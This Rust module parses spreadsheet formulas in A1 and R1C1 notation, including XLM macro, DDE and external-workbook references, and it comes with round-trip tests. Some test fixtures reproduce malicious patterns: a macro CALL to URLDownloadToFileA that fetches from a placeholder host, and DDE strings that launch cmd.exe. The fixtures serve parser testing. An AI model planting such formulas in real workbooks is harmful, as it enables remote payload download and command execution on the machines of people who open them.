//! Formulas as text ([ECMA-376] part 1, 18.17.2), in the notation of cells (`A1`) or of rows and columns (`R1C1`), as
//! XML workbooks, SYLK files and macros that write formulas give them.

use super::formula::{Binary, Expr, Node, Reference, Unary, error_code};
use super::functions::is_function;

/// How cells are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Notation {
    A1,
    R1C1,
    /// What `FORMULA` is given at run time: rows and columns, but cells are taken where nothing else fits.
    Either,
}

/// Nesting of parentheses and calls that is followed; Excel allows 64.
const NESTING: u32 = 100;
/// Longest formula that is read; Excel allows 8,192 characters.
const LONGEST: usize = 1 << 15;
const MOST_ROWS: u32 = 1 << 20;
const MOST_COLUMNS: u32 = 1 << 14;

/// Reads a formula without its leading `=`. `base` is the cell it stands in: row and column, from 1.
///
/// # Errors
///
/// Says why the text is not a formula.
pub(crate) fn parse(text: &str, notation: Notation, base: (u32, u32)) -> Result<Expr, &'static str> {
    if text.len() > LONGEST {
        return Err("formula-length");
    }
    let mut parser = Parser { chars: text.chars().collect(), at: 0, notation, base, nesting: 0 };
    let node = parser.expression(0)?;
    parser.skip_space();
    if parser.peek().is_some() { Err("formula-text") } else { Ok(node.into_expr()) }
}

struct Parser {
    chars: Vec<char>,
    at: usize,
    notation: Notation,
    base: (u32, u32),
    nesting: u32,
}

type Parsed = Result<Node, &'static str>;

const BAD: &str = "formula-text";

impl Parser {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.at).copied()
    }

    fn peek_at(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.at.saturating_add(ahead)).copied()
    }

    fn step(&mut self) {
        self.at = self.at.saturating_add(1);
    }

    fn eat(&mut self, c: char) -> bool {
        let is = self.peek() == Some(c);
        if is {
            self.step();
        }
        is
    }

    fn skip_space(&mut self) -> bool {
        let from = self.at;
        while self.peek().is_some_and(|c| matches!(c, ' ' | '\t' | '\r' | '\n' | '\u{A0}')) {
            self.step();
        }
        self.at > from
    }

    /// The operator here, how tightly it binds, and its length.
    fn operator(&self) -> Option<(Binary, u8, usize)> {
        Some(match (self.peek()?, self.peek_at(1)) {
            ('<', Some('>')) => (Binary::Ne, 1, 2),
            ('<', Some('=')) => (Binary::Le, 1, 2),
            ('>', Some('=')) => (Binary::Ge, 1, 2),
            ('<', _) => (Binary::Lt, 1, 1),
            ('>', _) => (Binary::Gt, 1, 1),
            ('=', _) => (Binary::Eq, 1, 1),
            ('&', _) => (Binary::Concat, 2, 1),
            ('+', _) => (Binary::Add, 3, 1),
            ('-', _) => (Binary::Sub, 3, 1),
            ('*', _) => (Binary::Mul, 4, 1),
            ('/', _) => (Binary::Div, 4, 1),
            ('^', _) => (Binary::Pow, 5, 1),
            (':', _) => (Binary::Range, 8, 1),
            _ => return None,
        })
    }

    /// Operators bind as in 18.17.2.2; all of them group from the left.
    fn expression(&mut self, least: u8) -> Parsed {
        let mut left = self.prefixed()?;
        loop {
            let spaced = self.skip_space();
            if let Some((operator, binds, len)) = self.operator() {
                if binds < least {
                    return Ok(left);
                }
                self.at = self.at.saturating_add(len);
                let right = self.expression(binds.saturating_add(1))?;
                left = Self::join(operator, left, right);
            } else if spaced && least <= 7 && self.starts_reference() {
                let right = self.expression(8)?;
                left = Node::binary(Binary::Intersect, left, right);
            } else {
                return Ok(left);
            }
        }
    }

    fn join(operator: Binary, left: Node, right: Node) -> Node {
        if operator == Binary::Range
            && let (Expr::Cell(first), Expr::Cell(last)) = (left.expr(), right.expr())
        {
            return Node::leaf(Expr::Area { first: first.clone(), last: last.clone() });
        }
        Node::binary(operator, left, right)
    }

    fn starts_reference(&self) -> bool {
        self.peek().is_some_and(|c| c.is_alphabetic() || matches!(c, '$' | '\'' | '_' | '['))
    }

    /// Signs bind tighter than `%` and `^`.
    fn prefixed(&mut self) -> Parsed {
        let mut signs = Vec::new();
        loop {
            self.skip_space();
            match self.peek() {
                Some('-') => signs.push(Unary::Minus),
                Some('+') => signs.push(Unary::Plus),
                Some('@') => signs.push(Unary::Intersection),
                _ => break,
            }
            self.step();
        }
        let mut node = self.operand()?;
        // `A1:B2` belongs together before its sign.
        while !signs.is_empty() && self.peek() == Some(':') {
            self.step();
            let right = self.operand()?;
            node = Self::join(Binary::Range, node, right);
        }
        for sign in signs.iter().rev() {
            node = Node::unary(*sign, node);
        }
        loop {
            let from = self.at;
            self.skip_space();
            if !self.eat('%') {
                self.at = from;
                return Ok(node);
            }
            node = Node::unary(Unary::Percent, node);
        }
    }

    fn operand(&mut self) -> Parsed {
        self.skip_space();
        let node = match self.peek().ok_or(BAD)? {
            '"' => Node::leaf(Expr::Text(self.quoted('"')?)),
            '(' => self.parentheses()?,
            '{' => self.array()?,
            '#' => self.error()?,
            '0'..='9' | '.' => self.number()?,
            '\'' | '[' | '!' => self.elsewhere()?,
            c if is_word(c) => self.word()?,
            _ => return Err(BAD),
        };
        self.eat('#');
        Ok(node)
    }

    /// A text between quotes, which stand twice inside it.
    fn quoted(&mut self, quote: char) -> Result<String, &'static str> {
        self.step();
        let mut text = String::new();
        loop {
            let c = self.peek().ok_or(BAD)?;
            self.step();
            if c != quote {
                text.push(c);
            } else if self.eat(quote) {
                text.push(quote);
            } else {
                return Ok(text);
            }
        }
    }

    fn nest(&mut self) -> Result<(), &'static str> {
        self.nesting = self.nesting.saturating_add(1);
        if self.nesting > NESTING { Err("formula-depth") } else { Ok(()) }
    }

    fn parentheses(&mut self) -> Parsed {
        self.nest()?;
        self.step();
        let mut node = self.expression(0)?;
        self.skip_space();
        while self.eat(',') {
            let right = self.expression(0)?;
            node = Node::binary(Binary::Union, node, right);
            self.skip_space();
        }
        self.nesting = self.nesting.saturating_sub(1);
        if self.eat(')') { Ok(Node::unary(Unary::Paren, node)) } else { Err(BAD) }
    }

    fn arguments(&mut self) -> Result<Vec<Node>, &'static str> {
        self.nest()?;
        self.step();
        let mut arguments = Vec::new();
        self.skip_space();
        if self.eat(')') {
            self.nesting = self.nesting.saturating_sub(1);
            return Ok(arguments);
        }
        loop {
            self.skip_space();
            let argument = match self.peek() {
                Some(',' | ')') => Node::leaf(Expr::Missing),
                _ => self.expression(0)?,
            };
            arguments.push(argument);
            self.skip_space();
            if self.eat(',') {
                continue;
            }
            self.nesting = self.nesting.saturating_sub(1);
            return if self.eat(')') { Ok(arguments) } else { Err(BAD) };
        }
    }

    /// Constants in braces: `{1,2;"a",TRUE}`.
    fn array(&mut self) -> Parsed {
        self.step();
        let mut rows = vec![Vec::new()];
        loop {
            self.skip_space();
            let negative = self.eat('-');
            let item = match self.peek().ok_or(BAD)? {
                '"' => Expr::Text(self.quoted('"')?),
                '#' => self.error()?.into_expr(),
                '0'..='9' | '.' => match self.number()?.into_expr() {
                    Expr::Number(number) if negative => Expr::Number(-number),
                    other => other,
                },
                c if c.is_alphabetic() => match self.identifier().to_uppercase().as_str() {
                    "TRUE" => Expr::Bool(true),
                    "FALSE" => Expr::Bool(false),
                    _ => return Err(BAD),
                },
                _ => return Err(BAD),
            };
            rows.last_mut().ok_or(BAD)?.push(item);
            self.skip_space();
            if self.eat(',') {
                continue;
            }
            if self.eat(';') {
                rows.push(Vec::new());
            } else if self.eat('}') {
                return Ok(Node::leaf(Expr::Array(rows)));
            } else {
                return Err(BAD);
            }
        }
    }

    fn error(&mut self) -> Parsed {
        let from = self.at;
        self.step();
        while self.peek().is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '_')) {
            self.step();
        }
        if matches!(self.peek(), Some('!' | '?')) {
            self.step();
        }
        let text = self.text(from, self.at);
        let code = error_code(&text).ok_or(BAD)?;
        // `#REF!A1`: a sheet that is gone.
        if code == 0x17 && self.peek().is_some_and(is_word) {
            self.identifier();
        }
        Ok(Node::leaf(Expr::Error(code)))
    }

    fn number(&mut self) -> Parsed {
        let from = self.at;
        let digits = |parser: &mut Self| {
            while parser.peek().is_some_and(|c| c.is_ascii_digit()) {
                parser.step();
            }
        };
        digits(self);
        let whole = self.at;
        // `1:3` are rows.
        if self.peek() == Some(':') && self.at > from && self.peek_at(1).is_some_and(|c| c.is_ascii_digit() || c == '$')
        {
            let row = self.text(from, whole).parse().map_err(|_| BAD)?;
            return Ok(Node::leaf(self.rows(row)?));
        }
        if self.eat('.') {
            digits(self);
        }
        if matches!(self.peek(), Some('e' | 'E')) {
            let sign = usize::from(matches!(self.peek_at(1), Some('+' | '-')));
            if self.peek_at(sign.saturating_add(1)).is_some_and(|c| c.is_ascii_digit()) {
                self.at = self.at.saturating_add(sign).saturating_add(1);
                digits(self);
            }
        }
        let number: f64 = self.text(from, self.at).parse().map_err(|_| BAD)?;
        Ok(Node::leaf(if number.is_finite() { Expr::Number(number) } else { Expr::Error(0x24) }))
    }

    fn rows(&mut self, first: u32) -> Result<Expr, &'static str> {
        self.step();
        let relative_row = !self.eat('$');
        let from = self.at;
        while self.peek().is_some_and(|c| c.is_ascii_digit()) {
            self.step();
        }
        let last = self.text(from, self.at).parse().map_err(|_| BAD)?;
        let row = |row| Reference { row, relative_row, ..Reference::default() };
        Ok(Expr::Area { first: row(first), last: row(last) })
    }

    fn text(&self, from: usize, to: usize) -> String {
        self.chars.get(from..to).unwrap_or_default().iter().collect()
    }

    /// Letters, digits and marks of names and cells.
    fn identifier(&mut self) -> String {
        let from = self.at;
        while self.peek().is_some_and(is_word) {
            self.step();
        }
        self.text(from, self.at)
    }

    /// What starts with the quoted name of a sheet, another workbook or `!` (the active sheet).
    fn elsewhere(&mut self) -> Parsed {
        let from = self.at;
        let mut sheet = String::new();
        match self.peek() {
            Some('\'') => sheet = self.quoted('\'')?,
            Some('[') => {
                self.brackets()?;
                sheet = self.text(from, self.at);
                sheet.push_str(&self.identifier());
            }
            _ => {}
        }
        self.behind_sheet(from, &sheet)
    }

    fn brackets(&mut self) -> Result<(), &'static str> {
        let mut depth = 0_u32;
        loop {
            match self.peek().ok_or(BAD)? {
                '[' => depth = depth.saturating_add(1),
                ']' => depth = depth.saturating_sub(1),
                _ => {}
            }
            self.step();
            if depth == 0 {
                return Ok(());
            }
        }
    }

    /// `!` or `|` and what follows: a cell, a name, or a conversation with another program (DDE).
    fn behind_sheet(&mut self, from: usize, sheet: &str) -> Parsed {
        if self.eat('|') {
            return self.conversation(sheet);
        }
        if self.eat(':') {
            // `Sheet1:Sheet3!A1`
            self.identifier();
        }
        if !self.eat('!') {
            // A column of a table: `[@Price]`.
            return Ok(Node::leaf(Expr::External(self.text(from, self.at))));
        }
        // `[0]` is this workbook.
        let own = sheet.strip_prefix("[0]").unwrap_or(sheet);
        if own.contains('[') {
            if self.peek() == Some('\'') {
                self.quoted('\'').map(|_| ())?
            } else {
                self.identifier();
            }
            return self.called(Node::leaf(Expr::External(self.text(from, self.at))));
        }
        if self.peek() == Some('#') {
            return self.error();
        }
        let sheet = (!own.is_empty()).then(|| own.split(':').next().unwrap_or_default().to_owned());
        let start = self.at;
        if let Some(mut reference) = self.reference() {
            reference.sheet.clone_from(&sheet);
            let first = Node::leaf(Expr::Cell(reference));
            let node = self.called(first)?;
            return Ok(node);
        }
        self.at = start;
        let name = self.identifier();
        if name.is_empty() {
            return Err(BAD);
        }
        let name = sheet.map_or_else(|| name.clone(), |sheet| format!("{sheet}!{name}"));
        self.called(Node::leaf(Expr::Name(name)))
    }

    /// `server|topic!item`.
    fn conversation(&mut self, server: &str) -> Parsed {
        let part = |parser: &mut Self| {
            if parser.peek() == Some('\'') { parser.quoted('\'') } else { Ok(parser.identifier()) }
        };
        let topic = part(self)?;
        if !self.eat('!') {
            return Err(BAD);
        }
        let item = part(self)?;
        Ok(Node::leaf(Expr::External(format!("{server}|{topic}!{item}"))))
    }

    /// The call of `target`, if parentheses follow at once.
    fn called(&mut self, target: Node) -> Parsed {
        if self.peek() != Some('(') {
            return Ok(target);
        }
        let arguments = self.arguments()?;
        Ok(Node::invoke(target, arguments))
    }

    fn word(&mut self) -> Parsed {
        let from = self.at;
        let word = self.identifier();
        let next = self.peek();
        if matches!(next, Some('!' | '|')) || (next == Some(':') && self.names_sheets()) {
            return self.behind_sheet(from, &word);
        }
        let upper = word.to_uppercase();
        if next == Some('(') {
            let name = without_prefix(&upper);
            if is_function(name) || name.len() < upper.len() {
                let arguments = self.arguments()?;
                return Ok(Node::call(name, arguments));
            }
        }
        let end = self.at;
        self.at = from;
        if let Some(reference) = self.reference() {
            return self.called(Node::leaf(Expr::Cell(reference)));
        }
        self.at = end;
        match upper.as_str() {
            "TRUE" => return Ok(Node::leaf(Expr::Bool(true))),
            "FALSE" => return Ok(Node::leaf(Expr::Bool(false))),
            _ => {}
        }
        if next == Some('[') {
            // A column of a table.
            self.brackets()?;
            return Ok(Node::leaf(Expr::External(self.text(from, self.at))));
        }
        self.called(Node::leaf(Expr::Name(word)))
    }

    /// Whether `:` is followed by the name of a sheet: `Sheet1:Sheet3!A1`.
    fn names_sheets(&self) -> bool {
        let mut at = self.at.saturating_add(1);
        let from = at;
        while self.chars.get(at).copied().is_some_and(is_word) {
            at = at.saturating_add(1);
        }
        at > from && self.chars.get(at) == Some(&'!')
    }

    fn reference(&mut self) -> Option<Reference> {
        let from = self.at;
        if self.notation != Notation::A1
            && let Some(reference) = self.row_and_column()
        {
            return Some(reference);
        }
        self.at = from;
        (self.notation != Notation::R1C1).then(|| self.cell()).flatten()
    }

    /// `$A$1`, or `A` of `A:B` when the colon follows.
    fn cell(&mut self) -> Option<Reference> {
        let relative_column = !self.eat('$');
        let mut column = 0_u32;
        let mut letters = 0_u32;
        while let Some(c) = self.peek().filter(char::is_ascii_alphabetic) {
            let digit = u32::from(c.to_ascii_uppercase()).checked_sub(u32::from('A'))?.checked_add(1)?;
            column = column.checked_mul(26)?.checked_add(digit)?;
            letters = letters.saturating_add(1);
            self.step();
        }
        if letters == 0 || letters > 3 || column > MOST_COLUMNS {
            return None;
        }
        let relative_row = !self.eat('$');
        let from = self.at;
        while self.peek().is_some_and(|c| c.is_ascii_digit()) {
            self.step();
        }
        if self.peek().is_some_and(is_word) {
            return None;
        }
        if self.at == from {
            let whole = relative_row && self.is_part_of_columns(from, letters);
            return whole.then_some(Reference { column, relative_column, ..Reference::default() });
        }
        let row: u32 = self.text(from, self.at).parse().ok()?;
        (1..=MOST_ROWS).contains(&row).then_some(Reference { sheet: None, row, column, relative_row, relative_column })
    }

    /// Whether the letters that end here are one side of `A:B`.
    fn is_part_of_columns(&self, end: usize, letters: u32) -> bool {
        let start = end.saturating_sub(letters as usize);
        let before = |at: usize| at.checked_sub(1).and_then(|at| self.chars.get(at)).copied();
        let left = match before(start) {
            Some('$') => before(start.saturating_sub(1)),
            other => other,
        };
        let right = self.peek() == Some(':') && self.peek_at(1).is_some_and(|c| c == '$' || c.is_ascii_alphabetic());
        right || left == Some(':')
    }

    /// `R1C1`, `R[-1]C`, `R2`, `C[3]`.
    fn row_and_column(&mut self) -> Option<Reference> {
        let mut reference = Reference::default();
        let mut seen = 0_u32;
        for (letter, base, most) in [('R', self.base.0, MOST_ROWS), ('C', self.base.1, MOST_COLUMNS)] {
            if !self.peek().is_some_and(|c| c.eq_ignore_ascii_case(&letter)) {
                continue;
            }
            self.step();
            seen = seen.saturating_add(1);
            let (value, relative) = self.coordinate(base, most)?;
            if letter == 'R' {
                (reference.row, reference.relative_row) = (value, relative);
            } else {
                (reference.column, reference.relative_column) = (value, relative);
            }
        }
        let ends = !self.peek().is_some_and(|c| is_word(c) || c == '[');
        (seen > 0 && ends).then_some(reference)
    }

    /// A number, a distance in brackets, or nothing: the row or column of the formula itself.
    fn coordinate(&mut self, base: u32, most: u32) -> Option<(u32, bool)> {
        if self.eat('[') {
            let negative = self.eat('-');
            let from = self.at;
            while self.peek().is_some_and(|c| c.is_ascii_digit()) {
                self.step();
            }
            let distance: u32 = self.text(from, self.at).parse().ok()?;
            // Beyond the edge Excel goes on at the other one.
            let value = if negative {
                base.checked_sub(distance).filter(|v| *v > 0).or_else(|| base.checked_add(most)?.checked_sub(distance))
            } else {
                base.checked_add(distance).map(|v| if v > most { v.saturating_sub(most) } else { v })
            };
            return value.filter(|_| self.eat(']')).map(|value| (value, true));
        }
        let from = self.at;
        while self.peek().is_some_and(|c| c.is_ascii_digit()) {
            self.step();
        }
        if self.at == from {
            return Some((base, true));
        }
        let value: u32 = self.text(from, self.at).parse().ok()?;
        (1..=most).contains(&value).then_some((value, false))
    }
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric()
        || matches!(c, '_' | '.' | '$' | '\\' | '?')
        || (!c.is_ascii() && !c.is_whitespace() && !c.is_control())
}

/// Names of newer functions carry prefixes in files.
fn without_prefix(name: &str) -> &str {
    let mut name = name;
    while let Some(rest) = ["_XLFN.", "_XLWS.", "_XLUDF.", "_XLL."].iter().find_map(|prefix| name.strip_prefix(prefix))
    {
        name = rest;
    }
    name
}

/// A copy of `expr` in a cell so many rows and columns further: what was written without `$` moves along.
pub(crate) fn moved(expr: &Expr, rows: i64, columns: i64) -> Expr {
    let step = |value: u32, by: i64| u32::try_from(i64::from(value).saturating_add(by)).unwrap_or(0);
    let cell = |reference: &Reference| {
        let mut reference = reference.clone();
        if reference.relative_row && reference.row != 0 {
            reference.row = step(reference.row, rows);
        }
        if reference.relative_column && reference.column != 0 {
            reference.column = step(reference.column, columns);
        }
        reference
    };
    let all = |list: &[Expr]| list.iter().map(|expr| moved(expr, rows, columns)).collect();
    match expr {
        Expr::Cell(reference) => Expr::Cell(cell(reference)),
        Expr::Area { first, last } => Expr::Area { first: cell(first), last: cell(last) },
        Expr::Call { function, arguments } => Expr::Call { function: function.clone(), arguments: all(arguments) },
        Expr::Invoke { target, arguments } => {
            Expr::Invoke { target: Box::new(moved(target, rows, columns)), arguments: all(arguments) }
        }
        Expr::Unary { operator, operand } => {
            Expr::Unary { operator: *operator, operand: Box::new(moved(operand, rows, columns)) }
        }
        Expr::Binary { operator, left, right } => Expr::Binary {
            operator: *operator,
            left: Box::new(moved(left, rows, columns)),
            right: Box::new(moved(right, rows, columns)),
        },
        Expr::Join(parts) => Expr::Join(all(parts)),
        other => other.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> String {
        parse(text, Notation::A1, (1, 1)).map_or_else(|why| format!("! {why}"), |expr| expr.to_string())
    }

    #[test]
    fn formulas_come_back_as_they_were_written() {
        for text in [
            "EXEC(\"a\"\"b\"&A1&$B$2)",
            "IF(A3<0,CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://a.example\",\"..\\x\",0,0),)",
            "'My Sheet'!$A$1:$B$2",
            "Macro1!Auto",
            "SUM(A1:B2,{1,2;\"x\",TRUE})",
            "-A1^2+3%*(1-2)>=4",
            "RUN(Macro1!A1)",
            "A1()",
            "FORMULA.FILL(CHAR(1+2),Macro1!C3)",
            "#REF!",
            "SUM(A:C)",
            "1.5E+21",
            "[1]Sheet1!name",
        ] {
            assert_eq!(read(text), text);
        }
        assert_eq!(read("_xlfn.BITXOR(5,3)"), "BITXOR(5,3)");
        assert_eq!(read("log10(1)&MyMacro( )"), "LOG10(1)&MyMacro()");
        assert_eq!(read("cmd|'/c x'!A0"), "cmd|/c x!A0");
        assert_eq!(read("'C:\\cmd.exe'|'/c x'!'A0'"), "C:\\cmd.exe|/c x!A0");
        assert_eq!(read("Sheet1!A1:B2"), "Sheet1!A1:B2");
        assert_eq!(read("!A1"), "A1");
    }

    #[test]
    fn rows_and_columns() {
        let read = |text: &str, notation| parse(text, notation, (5, 3)).unwrap().to_string();
        assert_eq!(read("R1C1&R[-1]C&RC[2]&R[1]C[1]", Notation::R1C1), "$A$1&C4&E5&D6");
        assert_eq!(read("SUM(R1:R2,C1)", Notation::R1C1), "SUM($1:$2,$A)");
        assert_eq!(read("CHAR(1)&R2C2&B7&Run1", Notation::Either), "CHAR(1)&$B$2&B7&RUN1");
    }

    #[test]
    fn no_formula_is_an_error() {
        for text in ["", "1+", "A1 B", "(1", "EXEC(\"a", "{1,A1}", "1..2", ")", "…"] {
            let read = parse(text, Notation::A1, (1, 1));
            assert!(read.is_err() || text == "A1 B" || text == "…", "{text}");
        }
        let deep = format!("{}1{}", "(".repeat(5000), ")".repeat(5000));
        assert_eq!(parse(&deep, Notation::A1, (1, 1)), Err("formula-depth"));
        let signs = format!("{}1", "-".repeat(20_000));
        assert!(matches!(parse(&signs, Notation::A1, (1, 1)), Ok(expr) if expr.to_string().contains("formula-depth")));
        let long = format!("A1{}", "&A1".repeat(9_000));
        assert!(matches!(parse(&long, Notation::A1, (1, 1)), Ok(Expr::Join(parts)) if parts.len() == 9_001));
    }

    #[test]
    fn every_beginning_of_a_formula_is_read_or_refused() {
        let text = "IF(-R1C1:B2 'a b'!C3<={1,2;\"x\",#N/A},[1]S!n&cmd|'/c'!A0,_xlfn.X(A1#,,1E+3%))^(A1,B2)";
        for notation in [Notation::A1, Notation::R1C1, Notation::Either] {
            for (at, _) in text.char_indices() {
                for piece in [&text[..at], &text[at..]] {
                    if let Ok(expr) = parse(piece, notation, (1, 1)) {
                        assert!(expr.weight() > 0 && !expr.to_string().is_empty());
                    }
                }
            }
        }
    }

    #[test]
    fn copies_move_what_is_relative() {
        let expr = parse("A1&$A$1&A$1", Notation::A1, (1, 1)).unwrap();
        assert_eq!(moved(&expr, 2, 1).to_string(), "B3&$A$1&B$1");
    }
}
